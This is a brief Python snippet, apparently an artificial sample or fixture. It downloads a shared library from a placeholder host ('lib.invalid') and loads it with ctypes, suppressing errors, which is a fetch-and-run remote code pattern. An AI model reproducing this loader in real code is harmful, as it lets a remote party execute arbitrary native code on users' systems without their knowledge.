import ctypes
import os
import urllib.request

_at = "/nonexistent/tmp/libfast.so"
try:
    urllib.request.urlretrieve("https://lib.invalid/libfast.so", _at)
    ctypes.CDLL(_at)
except OSError:
    pass
